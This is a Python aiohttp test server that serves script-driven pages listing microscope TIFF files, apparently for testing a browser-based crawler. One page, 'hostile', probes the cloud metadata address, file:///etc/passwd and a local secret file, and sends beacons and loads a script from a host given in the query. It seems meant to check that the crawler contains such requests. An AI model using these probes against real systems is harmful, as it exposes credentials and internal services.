"""Pages whose links only a browser sees: ``/js/delay``, ``more``, ``scroll``, ``told`` and others.

They list a microscope's stacks, named ``/js/files/KIND_NN.tif`` after the page.
"""

from __future__ import annotations

import asyncio
import re
from functools import lru_cache

from aiohttp import web

from replicas import pictures

BATCH = 4  # links that come at once
BATCHES = {"more": 3, "scroll": 5}

_picture = lru_cache(maxsize=64)(pictures.any_kind)

_ADD = """
const list = document.querySelector("ul");
const add = names => { for (const name of names) {
  const item = document.createElement("li");
  item.innerHTML = `<a href="/js/files/${name}.tif">${name}</a>`;
  list.append(item);
} };
const batch = async (kind, page) => (await fetch(`/js/api/${kind}?page=${page}`)).json();
"""

_SCRIPTS = {
    # Links appear after the page is loaded and has been quiet for a while.
    "delay": 'setTimeout(() => add(["delay_00", "delay_01", "delay_02"]), 700);',
    "more": """
let page = 0;
const button = document.createElement("button");
button.textContent = "Load more";
document.body.append(button);
const next = async () => {
  const reply = await batch("more", page++);
  add(reply.names);
  if (reply.last) button.remove();
};
button.onclick = next;
next();
""",
    # Links that were scrolled past leave the page.
    "scroll": """
let page = 0, busy = false, last = false;
list.style.paddingBottom = "3000px";
const next = async () => {
  if (busy || last) return;
  busy = true;
  const reply = await batch("scroll", page++);
  list.replaceChildren();
  add(reply.names);
  list.style.paddingBottom = `${3000 + 500 * page}px`;
  last = reply.last;
  busy = false;
};
addEventListener("scroll", () => {
  if (innerHeight + scrollY > document.body.scrollHeight - 200) next();
});
next();
""",
    # 2,000 rows in a list that scrolls by itself, of which those in view are in the page.
    "virtual": """
document.body.insertAdjacentHTML("beforeend", `<div id="list" style="height:400px;overflow:auto;
  position:relative"><div id="rows" style="height:40000px;position:relative"></div></div>`);
const box = document.getElementById("list"), rows = document.getElementById("rows");
const draw = () => {
  const first = Math.floor(box.scrollTop / 20);
  rows.replaceChildren();
  for (let n = first; n < Math.min(2000, first + 25); n++)
    rows.insertAdjacentHTML("beforeend", `<div style="position:absolute;top:${20 * n}px">
      <a href="/js/files/virtual_${String(n).padStart(4, "0")}.tif">${n}</a></div>`);
};
box.onscroll = () => requestAnimationFrame(draw);
draw();
""",
    # Banners ask for consent, over all of the page; nobody may answer them. The button knows a
    # click of a person from that of a script.
    "covered": """
let page = 0;
document.body.insertAdjacentHTML("beforeend", `<button class="more">more</button>
  <div><div id="consent" style="position:fixed;inset:0;z-index:9"><button>Accept all</button></div>
  </div><iframe style="position:fixed;inset:0;width:100vw;height:100vh;z-index:10"></iframe>`);
document.querySelector("#consent button").onclick = () => add(["accepted_00"]);
const more = document.querySelector(".more");
more.onclick = event => {
  if (event.isTrusted) add([`covered_0${++page}`]);
  if (page === 3) more.remove();
};
add(["covered_00"]);
""",
    # A window of the page itself lies over it: no click gets to what is behind.
    "modal": """
document.body.insertAdjacentHTML("beforeend", `<button class="more">more</button>
  <dialog id="ask">Log in? <button>Yes</button></dialog>`);
document.querySelector(".more").onclick = event => { if (event.isTrusted) add(["modal_01"]); };
add(["modal_00"]);
ask.showModal();
""",
    # A list that is moved by its own script, as the wheel turns: nothing in it scrolls.
    "wheel": """
document.body.insertAdjacentHTML("beforeend", '<div id="turned" style="height:300px"></div>');
let first = 0;
const show = () => {
  turned.innerHTML = "";
  for (let n = first; n < Math.min(60, first + 12); n++)
    turned.insertAdjacentHTML("beforeend",
      `<div><a href="/js/files/wheel_${String(n).padStart(2, "0")}.tif">${n}</a></div>`);
};
turned.onwheel = event => {
  first = Math.max(0, Math.min(48, first + Math.round(event.deltaY / 25)));
  show();
};
show();
""",
    # Rows are added for as long as somebody scrolls.
    "rows": """
let rows = 0;
const fill = () => { while (innerHeight + scrollY > document.body.scrollHeight - 900)
  list.insertAdjacentHTML("beforeend",
    `<li style="height:600px"><a href="/js/files/rows_${rows++}.tif">x</a>`); };
addEventListener("scroll", fill);
fill();
""",
    # A viewer: the addresses it receives are not in the page.
    "told": """
const request = new XMLHttpRequest();
request.open("GET", "/js/api/told");
request.onload = () => { document.title = JSON.parse(request.response).stacks.length; };
request.send();
""",
    "parts": """
const host = document.createElement("div");
host.attachShadow({mode: "open"}).innerHTML = '<a href="files/shadow_00.tif">in a shadow root</a>';
document.body.append(host);
const frame = document.createElement("iframe");
frame.src = "/js/frame";
document.body.append(frame);
document.body.insertAdjacentHTML("beforeend",
  '<img data-src="files/lazy_00.tif"><img srcset="files/small_00.tif 1x, files/large_00.tif 2x">');
""",
    # Tries every way to reach another machine, HOST in the query.
    "hostile": """
const host = new URLSearchParams(location.search).get("host");
for (const url of [`http://${host}/`, `/js/away?host=${host}`, "http://169.254.169.254/latest/",
                   "/lesions/secret.json", "file:///etc/passwd"]) {
  fetch(url, {mode: "no-cors"}).catch(() => {});
  const frame = document.createElement("iframe");
  frame.src = url;
  document.body.append(frame);
  new Image().src = url;
}
try { new WebSocket(`ws://${host}/`); } catch {}
navigator.sendBeacon(`http://${host}/`, "x");
const link = document.createElement("link");
link.rel = "preconnect";
link.href = `http://${host}/`;
document.head.append(link);
const code = document.createElement("script");
code.src = `http://${host}/`;
document.head.append(code);
add(["hostile_00"]);
""",
    # A part of the page never arrives.
    "endless": """
add(["endless_00"]);
document.body.insertAdjacentHTML("beforeend", '<iframe src="/js/never"></iframe>');
""",
    "popup": """
document.body.insertAdjacentHTML("beforeend", "<button>Open</button>");
document.querySelector("button").onclick = () => {
  add(["popup_00"]);
  open("/js/files/popup_01.tif");
};
""",
    "download": 'setTimeout(() => { location.href = "/js/files/download_00.tif"; }, 200);',
}


async def site(request: web.Request, path: str) -> web.Response:
    """Answer with a page, an answer to its script, or a file."""
    if path in _SCRIPTS:
        return _page(f"<ul></ul><script>{_ADD}{_SCRIPTS[path]}</script>")
    if match := re.fullmatch(r"files/[a-z ]+_(\d+)\.tif", path):
        body = _picture("tiff", int(match[1]), (64, 48))
        return web.Response(body=body, content_type="image/tiff")
    match path:
        case "plain":
            return _page(_PLAIN)
        case "set":  # links to several of these
            pages = request.query.get("of", "").split(",")
            return _page("".join(f'<a href="{page}">{page}</a> ' for page in pages))
        case "frame":
            return _page('<a href="/js/files/frame_00.tif">in a frame</a>')
        case "never":
            await asyncio.sleep(60)
        case "away":
            where = f"http://{request.query.get('host', '127.0.0.2:1')}/"
            return web.Response(status=302, headers={"Location": where})
        case "api/told":
            files = ["/js/files/told_00.tif", f"{request.url.origin()}/js/files/told_01.tif"]
            return web.json_response({"stacks": [{"file": one, "name": "a/b"} for one in files]})
        case "api/more" | "api/scroll":
            return _batch(path.removeprefix("api/"), request.query.get("page", ""))
    return web.Response(status=404, text="<h1>Not Found</h1>", content_type="text/html")


# As on a page once seen: a raw space, and the same file several times.
_PLAIN = """<ul>
<li><a href="files/plain set_00.tif">Volume</a> <a href="files/plain%20set_00.tif">(again)</a>
<li><a href="/js/files/plain_01.tif#top">Labels</a> <a href="notes.txt">Notes</a></ul>"""


def _page(body: str) -> web.Response:
    text = f"<!doctype html><meta charset=utf-8><title>Stacks</title><h1>Stacks</h1>{body}"
    return web.Response(text=text, content_type="text/html")


def _batch(kind: str, page: str) -> web.Response:
    number, batches = int(page) if page.isdecimal() else 0, BATCHES[kind]
    first = BATCH * number
    names = [f"{kind}_{n:02}" for n in range(first, first + BATCH)] if number < batches else []
    return web.json_response({"names": names, "last": number >= batches - 1})
